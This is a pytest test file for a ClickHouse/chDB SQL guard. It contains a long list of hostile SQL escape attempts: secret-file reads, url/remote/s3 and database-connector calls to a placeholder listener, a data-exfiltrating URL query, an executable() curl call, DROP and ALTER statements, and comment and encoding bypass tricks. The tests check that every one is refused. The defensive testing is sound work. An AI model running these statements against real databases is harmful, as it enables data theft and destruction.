"""``QueryService.sql`` on a real chDB store: escape attempts are refused, legitimate reads still work.

Every attempt names a local HTTP listener (a real ``http.server`` on 127.0.0.1) and a secret file written here;
each must raise QueryError while the listener sees no connection at all and the secret shows in no message.
Control tests run the same kind of statement past the guard, to show the listener and the leak are real.
"""

from __future__ import annotations

import http.server
import re
import secrets
import threading
from collections.abc import Iterator
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import pytest
from conftest import unique_name

from trackstream.sinks import sql as q
from trackstream.sinks.chdb_backend import ChdbBackend
from trackstream.sinks.errors import QueryError
from trackstream.sinks.query import QueryService
from trackstream.sinks.schema import migrate
from trackstream.sinks.sql_guard import check_statement


@dataclass
class Listener:
    """A local HTTP server that records every connection and request it gets."""

    server: http.server.ThreadingHTTPServer
    connections: list[str] = field(default_factory=list)
    requests: list[str] = field(default_factory=list)

    @property
    def url(self) -> str:
        return f"http://127.0.0.1:{self.server.server_address[1]}"

    @property
    def hostport(self) -> str:
        return f"127.0.0.1:{self.server.server_address[1]}"


@dataclass
class Store:
    service: QueryService
    backend: ChdbBackend
    other_database: str
    secret: str
    secret_file: Path
    listener: Listener
    outfile: Path


def _listener() -> Listener:
    calls: Listener

    class Handler(http.server.BaseHTTPRequestHandler):
        def _answer(self) -> None:
            calls.requests.append(f"{self.command} {self.path}")
            self.send_response(200)
            self.send_header("Content-Length", "5")
            self.end_headers()
            self.wfile.write(b"line\n")

        do_GET = do_POST = do_PUT = do_HEAD = _answer

        def log_message(self, format: str, *args: Any) -> None:
            pass

    class Server(http.server.ThreadingHTTPServer):
        def verify_request(self, request: Any, client_address: Any) -> bool:
            calls.connections.append(str(client_address))
            return True

    calls = Listener(Server(("127.0.0.1", 0), Handler))
    return calls


@pytest.fixture(scope="module")
def store(chdb_store: Path, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Store]:
    listener = _listener()
    thread = threading.Thread(target=listener.server.serve_forever, daemon=True)
    thread.start()
    backend = ChdbBackend(chdb_store, database=unique_name("escapes"))
    other = ChdbBackend(chdb_store, database=unique_name("other"))
    migrate(backend)
    other.create_database()
    other.command("CREATE TABLE IF NOT EXISTS secret_t (x String) ENGINE = Memory")
    other.command("INSERT INTO secret_t VALUES ('hidden')")
    backend.command("INSERT INTO points (project, entity_type, entity_id, metric, generation, rank, step, time, kind, "
                    "value32) VALUES ('p', 'run', 'run-a', 'loss', 0, 0, 1, '2024-01-01 00:00:00', 'series', 0.5), "
                    "('p', 'run', 'run-a', 'loss', 0, 0, 2, '2024-01-01 00:00:01', 'series', 0.25), "
                    "('p', 'run', 'run-b', 'loss', 0, 0, 1, '2024-01-01 00:00:02', 'series', 0.75)")
    directory = tmp_path_factory.mktemp("escapes")
    secret = f"secret-{secrets.token_hex(8)}"
    secret_file = directory / "secret.txt"
    secret_file.write_text(secret + "\n")
    try:
        yield Store(QueryService(backend=backend), backend, other.database, secret, secret_file, listener,
                    directory / "out.txt")
    finally:
        listener.server.shutdown()
        listener.server.server_close()
        other.close()
        backend.close()


@pytest.fixture
def fresh(store: Store) -> Store:
    store.listener.connections.clear()
    store.listener.requests.clear()
    return store


# (id, statement, parameters). <URL> is the listener's base URL, <HOSTPORT> its address, <PORT> its port,
# <SECRET> the secret file, <OTHER> another database of the store, <OUT> a file path that must not be written.
URL_LINE = "url('<URL>/x', 'LineAsString')"
ESCAPES: list[tuple[str, str, dict[str, Any] | None]] = [
    ("explain-plan-file", "EXPLAIN PLAN SELECT (SELECT groupArray(line) FROM file('<SECRET>', 'LineAsString'))", None),
    ("explain-syntax-url", f"EXPLAIN SYNTAX SELECT (SELECT any(line) FROM {URL_LINE})", None),
    ("explain-query-tree-file", "EXPLAIN QUERY TREE SELECT (SELECT any(line) FROM file('<SECRET>', 'LineAsString'))",
     None),
    ("explain-pipeline-url", f"EXPLAIN PIPELINE SELECT * FROM {URL_LINE}", None),
    ("explain-estimate-url", f"EXPLAIN ESTIMATE SELECT * FROM {URL_LINE}", None),
    ("explain-exfiltrate", "EXPLAIN PLAN SELECT * FROM url('<URL>/x?d=' || (SELECT any(entity_id) FROM points), "
     "'LineAsString')", None),
    ("explain-ast-optimize", f"EXPLAIN AST optimize = 1 SELECT (SELECT any(line) FROM {URL_LINE})", None),
    ("explain-table-override", "EXPLAIN TABLE OVERRIDE mysql('<HOSTPORT>', 'db', 't', 'u', 'p') PARTITION BY x",
     None),
    ("explain-in-subquery", f"SELECT * FROM (EXPLAIN SELECT * FROM {URL_LINE})", None),
    ("describe-url", f"DESCRIBE {URL_LINE}", None),
    ("describe-file", "DESCRIBE file('<SECRET>', 'LineAsString')", None),
    ("describe-s3", "DESCRIBE s3('<URL>/bucket/key.csv', 'CSV')", None),
    ("describe-remote", "DESCRIBE remote('<HOSTPORT>', system.one)", None),
    ("describe-subquery-url", f"DESCRIBE (SELECT * FROM {URL_LINE})", None),
    ("describe-system-users", "DESCRIBE TABLE system.users", None),
    ("show-create-users", "SHOW CREATE TABLE system.users", None),
    ("show-create-other", "SHOW CREATE TABLE <OTHER>.secret_t", None),
    ("show-grants", "SHOW GRANTS", None),
    ("show-users", "SHOW USERS", None),
    ("show-processlist", "SHOW PROCESSLIST", None),
    ("show-settings", "SHOW SETTINGS LIKE '%'", None),
    ("show-tables-other", "SHOW TABLES FROM <OTHER>", None),
    ("exists-statement-url", f"EXISTS TABLE {URL_LINE}", None),
    ("exists-function-url", f"SELECT EXISTS (SELECT * FROM {URL_LINE})", None),
    ("scalar-file", "SELECT file('<SECRET>')", None),
    ("quoted-file", "SELECT `file`('<SECRET>')", None),
    ("upper-file", "SELECT FILE('<SECRET>')", None),
    ("file-in-in", "SELECT '<SECRET>' IN file('<SECRET>')", None),
    ("url-in-subquery", f"SELECT count() FROM points WHERE entity_id IN (SELECT line FROM {URL_LINE})", None),
    ("url-in-join", f"SELECT * FROM points AS p JOIN {URL_LINE} AS u ON p.entity_id = u.line", None),
    ("url-in-cte", f"WITH u AS (SELECT * FROM {URL_LINE}) SELECT * FROM u", None),
    ("url-in-array-join", f"SELECT v FROM numbers(1) ARRAY JOIN (SELECT groupArray(line) FROM {URL_LINE}) AS v", None),
    ("url-scalar-subquery", f"SELECT (SELECT count() FROM {URL_LINE})", None),
    ("url-union", f"SELECT 'a' UNION ALL SELECT line FROM {URL_LINE}", None),
    ("url-cluster", "SELECT * FROM urlCluster('default', '<URL>/x', 'LineAsString')", None),
    ("merge-system", "SELECT * FROM merge('system', '^users$')", None),
    ("view-users", "SELECT * FROM view(SELECT name FROM system.users)", None),
    ("view-explain", f"SELECT * FROM viewExplain('EXPLAIN', '', (SELECT * FROM {URL_LINE}))", None),
    ("remote-one", "SELECT * FROM remote('<HOSTPORT>', system.one)", None),
    ("remote-secure", "SELECT * FROM remoteSecure('<HOSTPORT>', system.one)", None),
    ("cluster", "SELECT * FROM cluster('default', system.one)", None),
    ("s3-listener", "SELECT * FROM s3('<URL>/bucket/k.csv', 'CSV')", None),
    ("gcs-listener", "SELECT * FROM gcs('<URL>/bucket/k.csv', 'CSV')", None),
    ("hdfs-listener", "SELECT * FROM hdfs('hdfs://<HOSTPORT>/k.csv', 'CSV')", None),
    ("azure-listener", "SELECT * FROM azureBlobStorage('<URL>/account', 'container', 'k.csv')", None),
    ("iceberg-listener", "SELECT * FROM icebergS3('<URL>/bucket/table/')", None),
    ("mysql", "SELECT * FROM mysql('<HOSTPORT>', 'db', 't', 'u', 'p')", None),
    ("postgresql", "SELECT * FROM postgresql('<HOSTPORT>', 'db', 't', 'u', 'p')", None),
    ("mongodb", "SELECT * FROM mongodb('<HOSTPORT>', 'db', 'c', 'u', 'p', 'x String')", None),
    ("redis", "SELECT * FROM redis('<HOSTPORT>', 'k', 'k String, v String')", None),
    ("odbc", "SELECT * FROM odbc('DSN=x', 'db', 't')", None),
    ("jdbc", "SELECT * FROM jdbc('jdbc:mysql://<HOSTPORT>/db', 't')", None),
    ("executable", "SELECT * FROM executable('curl <URL>/exec', 'LineAsString', 'x String')", None),
    ("input", "SELECT * FROM input('x String')", None),
    ("chdb-python", "SELECT * FROM Python(trackstream_batch)", None),
    ("dictionary", "SELECT * FROM dictionary('d')", None),
    ("dict-get", "SELECT dictGet('d', 'v', toUInt64(1))", None),
    ("dict-get-typed", "SELECT dictGetStringOrDefault('d', 'v', toUInt64(1), 'x')", None),
    ("join-get", "SELECT joinGet('j', 'v', 1)", None),
    ("has-column-remote", "SELECT hasColumnInTable('<HOSTPORT>', 'default', 't', 'c')", None),
    ("merge-tree-index", "SELECT * FROM mergeTreeIndex(currentDatabase(), points)", None),
    ("system-users", "SELECT * FROM system.users", None),
    ("system-named-collections", "SELECT * FROM system.named_collections", None),
    ("system-processes", "SELECT * FROM system.processes", None),
    ("system-query-log", "SELECT * FROM system.query_log", None),
    ("system-grants", "SELECT * FROM system.grants", None),
    ("system-quoted", "SELECT * FROM `system`.\"users\"", None),
    ("system-column-ref", "SELECT system.users.name", None),
    ("in-system-users", "SELECT 1 WHERE 'default' IN system.users", None),
    ("in-other-database", "SELECT count() FROM points WHERE 'hidden' IN <OTHER>.secret_t", None),
    ("other-database", "SELECT * FROM <OTHER>.secret_t", None),
    ("information-schema-engines", "SELECT * FROM INFORMATION_SCHEMA.ENGINES", None),
    ("identifier-parameter", "SELECT * FROM {t:Identifier}", {"t": "system.users"}),
    ("newline-fake-subtree", f"SELECT `a (children 1)\n     Function numbers` FROM {URL_LINE}", None),
    ("newline-alias-fake-table", f"SELECT 1 AS `x\n      TableIdentifier points` FROM {URL_LINE}", None),
    ("newline-in-parameter", f"SELECT * FROM {URL_LINE} WHERE {{c:Identifier}} = 1",
     {"c": "a\n     TableExpression (children 1)\n      Function numbers"}),
    ("into-outfile", "SELECT * FROM points INTO OUTFILE '<OUT>'", None),
    ("show-into-outfile", "SHOW TABLES INTO OUTFILE '<OUT>'", None),
    ("format", "SELECT 1 FORMAT JSON", None),
    ("settings-readonly-0", f"SELECT * FROM {URL_LINE} SETTINGS readonly = 0", None),
    ("settings-subquery", "SELECT * FROM (SELECT 1 SETTINGS readonly = 0)", None),
    ("multiple-statements", f"SELECT 1; SELECT * FROM {URL_LINE}", None),
    ("insert-function", "INSERT INTO FUNCTION url('<URL>/ins', 'CSV', 'x String') VALUES ('a')", None),
    ("create-url-engine", "CREATE TABLE t ENGINE = URL('<URL>/c', CSV) AS SELECT 1", None),
    ("alter", "ALTER TABLE points DELETE WHERE 1", None),
    ("drop", "DROP TABLE points", None),
    ("system-statement", "SYSTEM RELOAD DICTIONARIES", None),
    ("kill", "KILL QUERY WHERE 1", None),
    ("optimize", "OPTIMIZE TABLE points FINAL", None),
    ("set", "SET readonly = 0", None),
    ("use", "USE system", None),
    ("comment-block-hides-insert", "/* SELECT */ INSERT INTO points SELECT * FROM points", None),
    ("comment-dash-hides-drop", "-- SELECT\nDROP TABLE points", None),
    ("comment-hash", f"# SELECT\nSELECT * FROM {URL_LINE}", None),
    ("comment-nested", f"/* /* */ SELECT 1 */ SELECT * FROM {URL_LINE}", None),
    ("comment-fake-explain", f"/* /* */ EXPLAIN */ SELECT * FROM {URL_LINE}", None),
    ("escaped-identifier", "SELECT `f\\x69le`('<SECRET>')", None),
    ("double-quoted-identifier", "SELECT \"fil\\x65\"('<SECRET>')", None),
    ("fullwidth-url", "SELECT * FROM \uff55rl('<URL>/x', 'LineAsString')", None),
    ("concatenated-url", "SELECT * FROM url(concat('http://127.0.0.1:', '<PORT>', '/concat'), 'LineAsString')", None),
    ("parameter-url", "SELECT * FROM url({u:String}, 'LineAsString')", {"u": "<URL>/param"}),
    ("parameter-url-explain", "EXPLAIN PLAN SELECT * FROM url({u:String}, 'LineAsString')", {"u": "<URL>/param"}),
    # APPLY hides its function or lambda from the dump: refused as a whole (found by a break-it session)
    ("apply-lambda-file", "SELECT * APPLY(x -> file('<SECRET>')) FROM values('x String', 'a')", None),
    ("apply-function-file", "SELECT * APPLY file FROM values('x String', {p:String})", {"p": "<SECRET>"}),
    ("apply-qualified", "SELECT t.* APPLY(x -> file('<SECRET>')) FROM values('x String', 'a') AS t", None),
    ("apply-columns", "SELECT COLUMNS('x') APPLY(file) FROM values('x String', {p:String})", {"p": "<SECRET>"}),
    ("apply-subquery", "SELECT * APPLY(x -> (SELECT groupArray(query) FROM system.processes)) FROM numbers(1)",
     None),
    ("ai-function", "SELECT aiGenerate('<URL>', 'x')", None),
    ("naive-bayes", "SELECT naiveBayesClassifier('model', 'text')", None),
]
# Statements ClickHouse cannot parse at all: refused by the parser, not by the allow-list.
PARSE_ERRORS = {"exists-statement-url", "fullwidth-url"}


def _fill(text: str, store: Store) -> str:
    port = str(store.listener.server.server_address[1])
    return (text.replace("<URL>", store.listener.url).replace("<HOSTPORT>", store.listener.hostport)
            .replace("<PORT>", port).replace("<SECRET>", str(store.secret_file))
            .replace("<OTHER>", store.other_database).replace("<OUT>", str(store.outfile)))


def test_the_battery_is_large() -> None:
    assert len(ESCAPES) >= 30
    assert len({name for name, _, _ in ESCAPES}) == len(ESCAPES)


@pytest.mark.parametrize(("sql", "params"), [(sql, params) for _, sql, params in ESCAPES],
                         ids=[name for name, _, _ in ESCAPES])
def test_escape_is_refused(fresh: Store, request: pytest.FixtureRequest, sql: str, params: dict[str, Any] | None
                           ) -> None:
    name = request.node.callspec.id
    bound = {key: _fill(value, fresh) for key, value in params.items()} if params else None
    with pytest.raises(QueryError) as caught:
        fresh.service.sql(_fill(sql, fresh), bound)
    message = str(caught.value)
    if name not in PARSE_ERRORS:
        assert message.startswith("sql() refuses"), message
    assert fresh.secret not in message
    assert fresh.listener.connections == [], fresh.listener.requests
    assert not fresh.outfile.exists()


# --- controls: the listener hears a statement that gets past the guard --------------------------------------------

def test_control_listener_hears_url(fresh: Store) -> None:
    fresh.backend.query(f"SELECT * FROM url('{fresh.listener.url}/control', 'LineAsString')")
    assert "GET /control" in fresh.listener.requests


def test_control_explain_without_readonly_reaches_out(fresh: Store) -> None:
    """The issue's leak: an EXPLAIN evaluates its scalar subqueries, so without readonly it calls the URL."""
    fresh.backend.query(f"EXPLAIN PLAN SELECT (SELECT any(line) FROM url('{fresh.listener.url}/explain', "
                        "'LineAsString'))")
    assert "GET /explain" in fresh.listener.requests


# --- the second layer: readonly = 1 for every kind, past the guard -------------------------------------------------

def test_readonly_select(fresh: Store) -> None:
    assert fresh.backend.query("SELECT getSetting('readonly') -- c", readonly=True)[1] == [(1,)]
    with pytest.raises(QueryError, match=r"READONLY|readonly"):
        fresh.backend.query(f"SELECT * FROM url('{fresh.listener.url}/ro', 'LineAsString')", readonly=True)
    assert fresh.listener.connections == []


SUBQUERY = "(SELECT any(line) FROM url('<URL>/ro', 'LineAsString'))"


@pytest.mark.parametrize("sql", [
    f"EXPLAIN PLAN SELECT {SUBQUERY}",
    f"EXPLAIN QUERY TREE SELECT 1 UNION ALL SELECT {SUBQUERY} -- c",
    f"EXPLAIN SYNTAX run_query_tree_passes = 1 (SELECT {SUBQUERY})",
    f"EXPLAIN PIPELINE (SELECT {SUBQUERY})",
    f"EXPLAIN ESTIMATE ((SELECT {SUBQUERY}))",
    f"EXPLAIN PLAN (SELECT {SUBQUERY}) UNION ALL (SELECT 1)",
    f"EXPLAIN QUERY TREE (SELECT 1) INTERSECT (SELECT {SUBQUERY})",
    f"EXPLAIN PLAN SELECT {SUBQUERY} FROM numbers(1) GROUP BY 1 ORDER BY 1 WITH FILL LIMIT 1 BY 1 LIMIT 1",
    "DESCRIBE (SELECT * FROM url('<URL>/ro', 'LineAsString'))",
    f"DESCRIBE (SELECT 1 UNION ALL SELECT {SUBQUERY})",
    f"(SELECT 1) UNION ALL (SELECT {SUBQUERY})",
])
def test_readonly_explain_and_describe(fresh: Store, sql: str) -> None:
    """The statements the issue's leak used, past the guard: readonly = 1 alone stops them, whatever their shape."""
    with pytest.raises(QueryError, match=r"READONLY|readonly"):
        fresh.backend.query(_fill(sql, fresh), readonly=True)
    assert fresh.listener.connections == []


def test_readonly_show_and_exists(fresh: Store) -> None:
    rows = fresh.backend.query("SHOW SETTINGS LIKE 'readonly'", readonly=True)[1]
    assert [row[2] for row in rows if row[0] == "readonly"] == ["1"]
    assert fresh.backend.query("EXISTS TABLE points", readonly=True)[1] == [(1,)]
    rows = fresh.backend.query("EXPLAIN QUERY TREE SELECT (SELECT getSetting('readonly'))", readonly=True)[1]
    assert any("constant_value: UInt64_1, constant_value_type: UInt8" in row[0] for row in rows)


# --- what stays possible -------------------------------------------------------------------------------------------

STORE_TABLES = {"points", "series_stats", "series_blocks", "entities", "params", "ingested", "alerts", "sink_chunks"}


@pytest.mark.parametrize(("sql", "params", "expected"), [
    ("SELECT entity_id, count() FROM points FINAL WHERE project = {p:String} GROUP BY entity_id ORDER BY entity_id",
     {"p": "p"}, [("run-a", 2), ("run-b", 1)]),
    ("SELECT count() FROM points -- a comment at the end", None, [(3,)]),
    ("/* leading */ SELECT max(step) FROM points WHERE entity_id = {e:String};", {"e": "run-a"}, [(2,)]),
    ("SELECT p.step FROM points AS p WHERE p.entity_id = {e:String} ORDER BY p.step", {"e": "run-a"}, [(1,), (2,)]),
    ("SELECT * FROM (WITH s AS (SELECT step FROM points) SELECT count() AS n FROM s UNION ALL "
     "SELECT sum(number) FROM numbers(4)) ORDER BY n", None, [(3,), (6,)]),
    ("SELECT step FROM points WHERE entity_id = 'run-a' INTERSECT SELECT toInt64(number) FROM numbers(2)", None,
     [(1,)]),
    ("SELECT step FROM points WHERE entity_id = 'run-a' EXCEPT SELECT toInt64(number) FROM numbers(2)", None, [(2,)]),
    ("SELECT * FROM (VALUES (1, 'a'))", None, [(1, "a")]),
    ("SELECT x FROM values('x Int32', 5, 6) ORDER BY x", None, [(5,), (6,)]),
    ("SELECT count() FROM generate_series(1, 3)", None, [(3,)]),
    ("SELECT count() FROM information_schema.tables WHERE table_schema = currentDatabase() AND table_name = 'points'",
     None, [(1,)]),
    ("SELECT getSetting('readonly')", None, [(1,)]),
    ("EXISTS TABLE points", None, [(1,)]),
    ("SHOW TABLES LIKE 'points'", None, [("points",)]),
])
def test_legitimate_reads(fresh: Store, sql: str, params: dict[str, Any] | None, expected: list[Any]) -> None:
    assert fresh.service.sql(sql, params) == expected


def test_metadata_reads(fresh: Store) -> None:
    sql = fresh.service.sql
    tables = {name for (name,) in sql("SELECT name FROM system.tables WHERE database = currentDatabase()")}
    assert tables == STORE_TABLES
    assert {name for (name,) in sql("SHOW TABLES")} == STORE_TABLES
    assert fresh.backend.database in {name for (name,) in sql("SHOW DATABASES")}
    assert "step" in {row[0] for row in sql("DESCRIBE TABLE points")}
    assert "step" in {row[0] for row in sql("SHOW COLUMNS FROM points")}
    assert "ReplacingMergeTree" in sql("SHOW CREATE TABLE points")[0][0]
    assert sql(f"SELECT count() FROM {fresh.backend.database}.points") == [(3,)]
    assert sql("SHOW TABLES FROM system LIKE 'one'") == [("one",)]
    assert sql("SELECT sum(number) FROM numbers(10)") == [(45,)]
    for explain in ("EXPLAIN SELECT count() FROM points", "EXPLAIN PLAN header = 1 SELECT 1",
                    "EXPLAIN AST SELECT 1", "EXPLAIN SYNTAX SELECT 1", "EXPLAIN QUERY TREE SELECT 1",
                    "EXPLAIN PIPELINE SELECT count() FROM points", "EXPLAIN ESTIMATE SELECT * FROM points"):
        assert isinstance(sql(explain), list), explain
    assert fresh.listener.connections == []


def _dummy(kind: str) -> Any:
    return [] if kind.startswith("Array") else ("x" if kind == "String" else 0)


@pytest.mark.parametrize("template", [
    q.compare_sql("metric = {metric:String}", "min"), q.stats_sql("metric = {metric:String}", "last"),
    q.fill(q.PLAN, select="1"), q.curves_sql("ranks"), q.CURVES_ROLLUP, q.fill(q.ENTITY_METRICS,
    per_step=q.per_step("entity_id = {entity_id:String}")), q.fill(q.RUNS, select=""), q.fill(q.PARAMS, select=""),
    q.fill(q.SUMMARY_STATS, select=""), q.SUMMARY_SCAN, q.INGESTED,
], ids=["compare", "stats", "plan", "curves", "curves-rollup", "entity-metrics", "runs", "params", "summary-stats",
        "summary-scan", "ingested"])
def test_the_service_queries_pass_the_guard(fresh: Store, template: str) -> None:
    params = {name: _dummy(kind) for name, kind in re.findall(r"\{(\w+):([^}]+)\}", template)}
    assert check_statement(fresh.backend, template, params).kind == "select"


def test_a_long_query_is_stopped_by_the_execution_limit(fresh: Store, monkeypatch: pytest.MonkeyPatch) -> None:
    from trackstream.sinks import sql_guard

    monkeypatch.setitem(sql_guard.LIMITS, "max_execution_time", 1)  # 30 s in service: one query cannot hold the store
    with pytest.raises(QueryError, match="TIMEOUT_EXCEEDED"):
        fresh.service.sql("SELECT count() FROM numbers_mt(100000000000) WHERE sipHash64(number) = 1")
    assert fresh.service.sql("SELECT 1") == [(1,)]


def test_a_failed_query_does_not_break_the_next_one(fresh: Store) -> None:
    for failing in ("SELECT throwIf(1)", "SELECT number FROM numbers(3) ORDER BY number COLLATE 'en'"):
        with pytest.raises(QueryError):
            fresh.service.sql(failing)
        assert fresh.service.sql("SELECT 1") == [(1,)]
        assert fresh.service.sql("SELECT {x:UInt8} + 1", {"x": 1}) == [(2,)]
